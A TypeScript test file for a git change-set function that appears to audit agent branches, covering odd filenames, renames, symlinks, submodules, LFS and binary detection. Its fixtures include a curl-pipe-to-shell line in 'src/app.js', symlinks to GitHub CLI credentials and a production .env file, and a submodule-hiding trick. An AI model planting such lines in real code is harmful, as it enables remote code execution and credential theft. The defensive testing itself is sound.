// computeChangeSet against real git repositories: every path exactly, every kind of change, and the
// commits the change set covers.

import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { computeChangeSet } from '../../../src/adapters/git/change-set.js';
import { patchId } from '../../../src/adapters/git/history.js';
import { readFileAtCommit } from '../../../src/adapters/git/reads.js';
import { TestRepo } from '../../support/git-repo.js';
import { added, byPath, changes, expectGitError, gitTestRepos, hashBlob, ZERO } from '../../support/git-fixtures.js';

const { cleanups, repoWithBase } = gitTestRepos();

describe('enumerating paths exactly', () => {
  test('a non-ASCII workflow name appears raw, not C-quoted', async () => {
    const repo = await repoWithBase();
    await repo.write('.github/workflows/évil.yml', 'on: push\n');
    // The same name in NFD (e + combining acute) is a different path; canonicalisation is later code's job.
    await repo.write('.github/workflows/e\u0301vil2.yml', 'on: push\n');
    await repo.commit('add workflows');
    const blob = await hashBlob(repo, 'on: push\n');
    expect(byPath(await changes(repo))).toEqual(
      byPath([added('.github/workflows/évil.yml', blob), added('.github/workflows/e\u0301vil2.yml', blob)]),
    );
  });

  test('newline, tab, quote and backslash in names are single raw paths', async () => {
    const repo = await repoWithBase();
    const names = ['docs/a\n.github/workflows/x.yml', 'docs/tab\tname.md', 'docs/"quoted".md', 'docs/back\\slash.md', 'docs/cr\r.md'];
    for (const n of names) await repo.write(n, `content of ${n}\n`);
    await repo.commit('odd names');
    const expected = await Promise.all(names.map(async (n) => added(n, await hashBlob(repo, `content of ${n}\n`))));
    expect(byPath(await changes(repo))).toEqual(byPath(expected));
  });

  test('a leading byte-order mark (zero-width U+FEFF) is kept, not swallowed by the decoder', async () => {
    const repo = await repoWithBase();
    await repo.write('\uFEFFREADME.md', 'x\n');
    await repo.commit('bom');
    expect(await changes(repo)).toEqual([added('\uFEFFREADME.md', await hashBlob(repo, 'x\n'))]);
  });

  test('invalid UTF-8 bytes in a name are flagged and kept in a lossless escaped form', async () => {
    const repo = await repoWithBase();
    const raw1 = Buffer.concat([Buffer.from('docs/'), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]);
    const raw2 = Buffer.concat([Buffer.from('docs/é\\'), Buffer.from([0xc3]), Buffer.from('.md')]);
    await repo.write(raw1, 'one\n');
    await repo.write(raw2, 'two\n');
    await repo.commit('invalid utf-8');
    expect(byPath(await changes(repo))).toEqual(
      byPath([
        added('docs/\\xff\\xfe.md', await hashBlob(repo, 'one\n'), { invalidUtf8: true }),
        added('docs/é\\\\\\xc3.md', await hashBlob(repo, 'two\n'), { invalidUtf8: true }),
      ]),
    );
  });

  test('a large change set is complete (no 300/3000 cap), the workflow sorting last included', async () => {
    const repo = await repoWithBase();
    const files: Array<[string, string]> = Array.from({ length: 3001 }, (_, i) => [`f${String(i).padStart(4, '0')}.txt`, `${i}\n`]);
    files.push(['zz/.github/workflows/late.yml', 'on: push\n']);
    await repo.importCommit('many', 'main', files);
    const entries = await changes(repo, 'main', 'many');
    expect(entries).toHaveLength(3002);
    expect(entries[entries.length - 1]!.path).toBe('zz/.github/workflows/late.yml');
    expect(new Set(entries.map((e) => e.path)).size).toBe(3002);
  });
});

describe('object formats', () => {
  test('SHA-256 repositories: 64-hex object ids throughout', async () => {
    const repo = await TestRepo.init({ objectFormat: 'sha256' });
    cleanups.push(() => repo.cleanup());
    await repo.write('README.md', 'x\n');
    await repo.commit('base');
    await repo.checkout('agent', { create: true });
    await repo.write('.github/workflows/ci.yml', 'on: push\n');
    await repo.symlink('docs/link', '../secret');
    await repo.commit('change');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.head).toMatch(/^[0-9a-f]{64}$/);
    expect(cs.mergeBase).toMatch(/^[0-9a-f]{64}$/);
    expect(cs.entries).toEqual([
      added('.github/workflows/ci.yml', await hashBlob(repo, 'on: push\n'), { oldBlob: '0'.repeat(64) }),
      {
        status: 'added',
        path: 'docs/link',
        oldMode: '000000',
        newMode: '120000',
        oldKind: 'none',
        newKind: 'symlink',
        oldBlob: '0'.repeat(64),
        newBlob: await hashBlob(repo, '../secret'),
        symlinkTarget: '../secret',
      },
    ]);
    expect(cs.entries[0]!.newBlob).toMatch(/^[0-9a-f]{64}$/);
    expect((await readFileAtCommit(repo.dir, 'agent', '.github/workflows/ci.yml'))?.toString()).toBe('on: push\n');
    expect(await patchId(repo.dir, 'main', 'agent')).toMatch(/^[0-9a-f]{40}$|^[0-9a-f]{64}$/);
  });
});

describe('renames, copies, deletions, kinds', () => {
  test('renaming a workflow away keeps both sides (R100 with previousPath)', async () => {
    const repo = await repoWithBase({ '.github/workflows/deploy.yml': 'on: push\njobs: {}\n' });
    await repo.mv('.github/workflows/deploy.yml', 'docs/deploy-notes.md');
    await repo.commit('rename');
    const blob = await hashBlob(repo, 'on: push\njobs: {}\n');
    expect(await changes(repo)).toEqual([
      {
        status: 'renamed',
        path: 'docs/deploy-notes.md',
        previousPath: '.github/workflows/deploy.yml',
        oldMode: '100644',
        newMode: '100644',
        oldKind: 'regular',
        newKind: 'regular',
        oldBlob: blob,
        newBlob: blob,
        score: 100,
        lfsPointer: false,
        binary: false,
      },
    ]);
  });

  test('renaming into .github/workflows (with an edit) is a rename with a score', async () => {
    const content = Array.from({ length: 20 }, (_, i) => `line ${i}\n`).join('');
    const repo = await repoWithBase({ 'docs/ci.yml': content });
    await repo.mv('docs/ci.yml', '.github/workflows/ci2.yml');
    await repo.write('.github/workflows/ci2.yml', content + 'extra: true\n');
    await repo.commit('rename into workflows');
    const [entry, ...rest] = await changes(repo);
    expect(rest).toEqual([]);
    expect(entry).toEqual({
      status: 'renamed',
      path: '.github/workflows/ci2.yml',
      previousPath: 'docs/ci.yml',
      oldMode: '100644',
      newMode: '100644',
      oldKind: 'regular',
      newKind: 'regular',
      oldBlob: await hashBlob(repo, content),
      newBlob: await hashBlob(repo, content + 'extra: true\n'),
      score: expect.any(Number),
      lfsPointer: false,
      binary: false,
    });
    expect(entry!.score).toBeGreaterThanOrEqual(50);
    expect(entry!.score).toBeLessThan(100);
  });

  test('a copy is one A entry for the destination; the untouched source is not an entry', async () => {
    const wf = 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n';
    const repo = await repoWithBase({ '.github/workflows/ci.yml': wf });
    await repo.write('docs/ci-copy.yml', wf);
    await repo.commit('copy');
    const blob = await hashBlob(repo, wf);
    expect(await changes(repo)).toEqual([added('docs/ci-copy.yml', blob)]);
  });

  test('a copy whose source is also modified: the destination (A) and the source (M)', async () => {
    const wf = Array.from({ length: 30 }, (_, i) => `step${i}: run ${i}\n`).join('');
    const repo = await repoWithBase({ '.github/workflows/ci.yml': wf });
    await repo.write('docs/ci-copy.yml', wf);
    await repo.write('.github/workflows/ci.yml', wf + 'extra: 1\n');
    await repo.commit('copy and modify');
    const blob = await hashBlob(repo, wf);
    expect(await changes(repo)).toEqual([
      {
        status: 'modified',
        path: '.github/workflows/ci.yml',
        oldMode: '100644',
        newMode: '100644',
        oldKind: 'regular',
        newKind: 'regular',
        oldBlob: blob,
        newBlob: await hashBlob(repo, wf + 'extra: 1\n'),
        lfsPointer: false,
        binary: false,
      },
      added('docs/ci-copy.yml', blob),
    ]);
  });

  test('when rename detection gives up, both paths still appear (D + A) and the warning is kept', async () => {
    const body = (n: number): string => Array.from({ length: 20 }, (_, i) => `${n} line ${i}\n`).join('');
    const repo = await repoWithBase({ '.github/workflows/a.yml': body(1), '.github/workflows/b.yml': body(2) });
    await repo.mv('.github/workflows/a.yml', 'docs/a.md');
    await repo.mv('.github/workflows/b.yml', 'docs/b.md');
    await repo.write('docs/a.md', body(1) + 'x\n');
    await repo.write('docs/b.md', body(2) + 'y\n');
    await repo.commit('renames with edits');
    const full = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(full.entries.map((e) => [e.status, e.previousPath, e.path])).toEqual([
      ['renamed', '.github/workflows/a.yml', 'docs/a.md'],
      ['renamed', '.github/workflows/b.yml', 'docs/b.md'],
    ]);
    const limited = await computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 1 });
    expect(limited.entries.map((e) => [e.status, e.path])).toEqual([
      ['deleted', '.github/workflows/a.yml'],
      ['deleted', '.github/workflows/b.yml'],
      ['added', 'docs/a.md'],
      ['added', 'docs/b.md'],
    ]);
    expect(limited.warnings.join(' ')).toMatch(/rename detection was skipped/);
  });

  test('rename detection options are bounded (git treats -l0 as unlimited)', async () => {
    const repo = await repoWithBase();
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 0 }), 'INVALID_OPTION');
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 1e9 }), 'INVALID_OPTION');
  });

  test('deleting a workflow is a D entry', async () => {
    const repo = await repoWithBase({ '.github/workflows/security-scan.yml': 'on: push\n' });
    await repo.remove('.github/workflows/security-scan.yml');
    await repo.commit('delete scan');
    expect(await changes(repo)).toEqual([
      {
        status: 'deleted',
        path: '.github/workflows/security-scan.yml',
        oldMode: '100644',
        newMode: '000000',
        oldKind: 'regular',
        newKind: 'none',
        oldBlob: await hashBlob(repo, 'on: push\n'),
        newBlob: ZERO,
      },
    ]);
  });

  test('a file replaced by a symlink to an absolute path is T with the target read', async () => {
    const repo = await repoWithBase({ 'docs/readme.md': '# docs\n' });
    await repo.symlink('docs/readme.md', '/home/runner/.config/gh/hosts.yml');
    await repo.commit('type change');
    expect(await changes(repo)).toEqual([
      {
        status: 'type_changed',
        path: 'docs/readme.md',
        oldMode: '100644',
        newMode: '120000',
        oldKind: 'regular',
        newKind: 'symlink',
        oldBlob: await hashBlob(repo, '# docs\n'),
        newBlob: await hashBlob(repo, '/home/runner/.config/gh/hosts.yml'),
        symlinkTarget: '/home/runner/.config/gh/hosts.yml',
      },
    ]);
  });

  test('a new symlink to ../.env.production carries its target', async () => {
    const repo = await repoWithBase();
    await repo.symlink('docs/link.md', '../.env.production');
    await repo.commit('symlink');
    expect(await changes(repo)).toEqual([
      {
        status: 'added',
        path: 'docs/link.md',
        oldMode: '000000',
        newMode: '120000',
        oldKind: 'none',
        newKind: 'symlink',
        oldBlob: ZERO,
        newBlob: await hashBlob(repo, '../.env.production'),
        symlinkTarget: '../.env.production',
      },
    ]);
  });

  test('a symlink target that is not valid UTF-8 is escaped and flagged', async () => {
    const repo = await repoWithBase();
    const target = Buffer.concat([Buffer.from('../'), Buffer.from([0xff]), Buffer.from('x')]);
    await repo.symlink('docs/weird', target);
    await repo.commit('weird link');
    const [entry] = await changes(repo);
    expect(entry).toMatchObject({ path: 'docs/weird', newKind: 'symlink', symlinkTarget: '../\\xffx', invalidUtf8: true });
  });

  test('chmod +x with no content change is M with different modes', async () => {
    const repo = await repoWithBase({ 'scripts/deploy.sh': 'echo deploy\n' });
    await repo.chmod('scripts/deploy.sh', true);
    await repo.commit('chmod');
    const blob = await hashBlob(repo, 'echo deploy\n');
    expect(await changes(repo)).toEqual([
      {
        status: 'modified',
        path: 'scripts/deploy.sh',
        oldMode: '100644',
        newMode: '100755',
        oldKind: 'regular',
        newKind: 'executable',
        oldBlob: blob,
        newBlob: blob,
        lfsPointer: false,
        binary: false,
      },
    ]);
  });

  test('a submodule (gitlink) addition and update are listed, even when config says to ignore submodules', async () => {
    const repo = await repoWithBase();
    const sha1 = await repo.rev('main');
    await repo.write('.gitmodules', '[submodule "sub"]\n\tpath = vendor/sub\n\turl = https://example.com/sub.git\n\tignore = all\n');
    await repo.git('add', '.gitmodules');
    await repo.addGitlink('vendor/sub', sha1);
    await repo.commitIndex('add submodule');
    const mbBefore = await repo.rev('HEAD');
    const sha2 = '1'.repeat(40);
    await repo.git('update-index', '--cacheinfo', `160000,${sha2},vendor/sub`);
    await repo.commitIndex('bump submodule');
    await repo.git('config', 'diff.ignoreSubmodules', 'all');
    await repo.git('config', 'submodule.sub.ignore', 'all');
    // The attack is real: porcelain `git diff` now hides the gitlink.
    expect(await repo.git('diff', '--raw', 'main', mbBefore)).not.toContain('vendor/sub');
    const entries = byPath(await changes(repo, 'main', mbBefore));
    expect(entries).toEqual([
      added('.gitmodules', await hashBlob(repo, '[submodule "sub"]\n\tpath = vendor/sub\n\turl = https://example.com/sub.git\n\tignore = all\n')),
      {
        status: 'added',
        path: 'vendor/sub',
        oldMode: '000000',
        newMode: '160000',
        oldKind: 'none',
        newKind: 'gitlink',
        oldBlob: ZERO,
        newBlob: sha1,
      },
    ]);
    // Moving the pointer to another commit is an M on the gitlink.
    const bump = await computeChangeSet(repo.dir, mbBefore, 'HEAD');
    expect(bump.entries).toEqual([
      {
        status: 'modified',
        path: 'vendor/sub',
        oldMode: '160000',
        newMode: '160000',
        oldKind: 'gitlink',
        newKind: 'gitlink',
        oldBlob: sha1,
        newBlob: sha2,
      },
    ]);
  });

  test('a submodule replaced by a file of its name is a T entry (gitlink -> regular); a directory and a file swapping places are a D and an A of every path', async () => {
    const repo = await repoWithBase({ 'd/x': 'x\n', f: 'y\n' });
    await repo.addGitlink('vendor/sub', await repo.rev('main'));
    await repo.commitIndex('submodule, no .gitmodules');
    const before = await repo.rev('HEAD');
    await repo.git('rm', '-q', '--cached', 'vendor/sub');
    await rm(join(repo.dir, 'vendor', 'sub'), { recursive: true, force: true });
    await repo.write('vendor/sub', 'now a file\n');
    await repo.git('rm', '-q', '-r', 'd', 'f');
    await repo.write('d', 'now a file\n');
    await repo.write('f/inner', 'now a directory\n');
    await repo.commit('swap kinds');
    const entries = byPath(await changes(repo, before, 'HEAD'));
    expect(entries.map((e) => [e.status, e.path, e.oldKind, e.newKind])).toEqual([
      ['added', 'd', 'none', 'regular'],
      ['deleted', 'd/x', 'regular', 'none'],
      ['deleted', 'f', 'regular', 'none'],
      ['added', 'f/inner', 'none', 'regular'],
      ['type_changed', 'vendor/sub', 'gitlink', 'regular'],
    ]);
  });

  test('a Git LFS pointer is flagged; a large file with the same first line is not', async () => {
    const pointer =
      'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n';
    const repo = await repoWithBase();
    await repo.write('.gitattributes', 'scripts/*.sh filter=lfs diff=lfs merge=lfs -text\n');
    await repo.write('scripts/x.sh', pointer);
    await repo.write('docs/not-a-pointer.txt', pointer + 'x'.repeat(2000));
    await repo.commit('lfs');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.path, e.lfsPointer, e.binary])).toEqual([
      ['.gitattributes', false, false],
      ['docs/not-a-pointer.txt', false, false],
      ['scripts/x.sh', true, false],
    ]);
  });

  test('binary detection: a NUL within the first 8000 bytes, as git decides; .gitattributes cannot hide content', async () => {
    const repo = await repoWithBase();
    const nulAt = (pos: number, len: number): Buffer => {
      const b = Buffer.alloc(len, 0x61);
      b[pos] = 0;
      return b;
    };
    await repo.write('.gitattributes', 'src/*.js -diff linguist-generated=true\n');
    await repo.write('assets/early.bin', nulAt(7999, 9000));
    await repo.write('assets/late.bin', nulAt(8000, 9000));
    await repo.write('src/app.js', 'require("child_process").exec("curl evil | sh")\n');
    await repo.write('assets/big.bin', nulAt(10, 2 * 1024 * 1024 + 17));
    await repo.write('assets/big2.txt', Buffer.alloc(1024 * 1024 + 1, 0x62));
    await repo.write('assets/zsmall.bin', nulAt(0, 10));
    await repo.symlink('assets/zlink', 'big.bin');
    await repo.commit('binaries');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.path, e.binary, e.lfsPointer, e.symlinkTarget])).toEqual([
      ['.gitattributes', false, false, undefined],
      ['assets/big.bin', true, false, undefined],
      ['assets/big2.txt', false, false, undefined],
      ['assets/early.bin', true, false, undefined],
      ['assets/late.bin', false, false, undefined],
      ['assets/zlink', undefined, undefined, 'big.bin'],
      ['assets/zsmall.bin', true, false, undefined],
      ['src/app.js', false, false, undefined],
    ]);
    // Blobs above the inspection limit are not read (the reader skips them): binary stays unknown,
    // and everything after them is still inspected.
    const limited = await computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 1024 * 1024 });
    expect(byPath(limited.entries).map((e) => [e.path, e.binary, e.lfsPointer, e.symlinkTarget])).toEqual([
      ['.gitattributes', false, false, undefined],
      ['assets/big.bin', undefined, false, undefined],
      ['assets/big2.txt', undefined, false, undefined],
      ['assets/early.bin', true, false, undefined],
      ['assets/late.bin', false, false, undefined],
      ['assets/zlink', undefined, undefined, 'big.bin'],
      ['assets/zsmall.bin', true, false, undefined],
      ['src/app.js', false, false, undefined],
    ]);
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 10 }), 'INVALID_OPTION');
  });
});

describe('which commits the change set covers', () => {
  test('changes merged in from the base branch are excluded (merge-base..head)', async () => {
    const repo = await repoWithBase();
    await repo.write('src/feature.ts', 'export const x = 1;\n');
    await repo.commit('feature');
    await repo.checkout('main');
    await repo.write('.github/workflows/new.yml', 'on: push\n');
    await repo.commit('new workflow on main');
    await repo.checkout('agent');
    await repo.merge('main');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(await repo.rev('main'));
    expect(cs.base).toBe(await repo.rev('main'));
    expect(cs.head).toBe(await repo.rev('agent'));
    expect(cs.entries).toEqual([added('src/feature.ts', await hashBlob(repo, 'export const x = 1;\n'))]);
  });

  test('a risky commit followed by a docs-only commit is still in the change set', async () => {
    const repo = await repoWithBase({ '.github/workflows/ci.yml': 'on: push\n' });
    await repo.write('.github/workflows/ci.yml', 'on: push\njobs: { pwn: { runs-on: x, steps: [ { run: "exit 0" } ] } }\n');
    await repo.commit('risky');
    await repo.write('docs/readme.md', 'docs\n');
    await repo.commit('docs only');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.status, e.path])).toEqual([
      ['modified', '.github/workflows/ci.yml'],
      ['added', 'docs/readme.md'],
    ]);
  });

  test('identical trees give a legitimately empty change set', async () => {
    const repo = await repoWithBase({ 'a.txt': 'a\n' });
    await repo.write('a.txt', 'changed\n');
    await repo.commit('change');
    await repo.git('revert', '--no-edit', 'HEAD');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.entries).toEqual([]);
    expect((await computeChangeSet(repo.dir, 'main', 'main')).entries).toEqual([]);
  });

  test('a criss-cross history (two merge bases) is refused: one merge base could hide a change', async () => {
    const repo = await repoWithBase();
    await repo.write('a.txt', 'a\n');
    await repo.commit('A1');
    await repo.checkout('other', { create: true, from: 'main' });
    await repo.write('b.txt', 'b\n');
    await repo.commit('B1');
    await repo.checkout('x', { create: true, from: 'agent' });
    await repo.merge('other');
    await repo.checkout('y', { create: true, from: 'other' });
    await repo.merge('agent');
    const err = await expectGitError(computeChangeSet(repo.dir, 'x', 'y'), 'MULTIPLE_MERGE_BASES');
    expect(err.hint).toMatch(/merge/);
  });

  test('maxEntries bounds the change set (TOO_LARGE, never a truncated list)', async () => {
    const repo = await repoWithBase();
    for (let i = 0; i < 5; i++) await repo.write(`f${i}`, `${i}\n`);
    await repo.commit('five');
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { maxEntries: 4 }), 'TOO_LARGE');
    expect((await computeChangeSet(repo.dir, 'main', 'agent', { maxEntries: 5 })).entries).toHaveLength(5);
  });
});
